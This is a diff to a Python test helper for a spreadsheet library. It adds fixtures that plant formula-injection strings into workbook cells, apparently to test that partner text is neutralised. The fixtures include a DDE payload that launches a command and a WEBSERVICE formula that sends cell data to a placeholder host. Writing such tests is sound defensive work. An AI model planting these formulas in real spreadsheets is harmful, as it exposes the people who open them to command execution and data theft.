@@ -11,9 +11,9 @@ from typing import Any
 
 import openpyxl
 
-from svlib.example_partners import example_collection
-from svlib.template import write_workbook
-from svlib.xlsx import _sheet_xml_paths
+from svlib.io.template import write_workbook
+from svlib.io.xlsx import _sheet_xml_paths
+from svlib.tools.example_partners import example_collection
 
 _COLLECTION = example_collection()
 
@@ -197,3 +197,29 @@ def rewrite_sheet(path: Path, change, sheet: str = "ImpactMap", rels=None) -> Pa
 def far_row(cell: str) -> callable:
     """A change adding one far row holding ``cell`` (its XML) to the end of the sheet data."""
     return lambda xml: xml.replace("</sheetData>", cell + "</sheetData>")
+
+
+FORMULA_TEXT = {  # (sheet, field or column): partner text that a spreadsheet would run as a formula
+    ("Partner", "name"): "=HYPERLINK(\"http://example.invalid/x\",\"Food Network\")",
+    ("Partner", "area"): "@SUM(1+1)*cmd|' /C calc'!A0",
+    ("ImpactMap", "outcome"): "=WEBSERVICE(\"http://example.invalid/?\"&A1)",
+    ("ImpactMap", "stakeholder"): "+44 people",
+    ("ImpactMap", "proxy_source"): "-2+3",
+    ("Inputs", "description"): "'already quoted",
+}
+
+
+def plant_formulas(path):
+    import openpyxl
+
+    book = openpyxl.load_workbook(path)
+    for (sheet, name), text in FORMULA_TEXT.items():
+        ws = book[sheet]
+        if sheet == "Partner":
+            cell = ws.cell(row=next(r[0].row for r in ws.iter_rows(min_row=2) if r[0].value == name), column=2)
+        else:
+            cell = ws.cell(row=2, column=next(c.column for c in ws[1] if c.value == name))
+        cell.value = text
+        cell.data_type = "s"  # typed as text, as a partner pasting it would
+    book.save(path)
+    return path
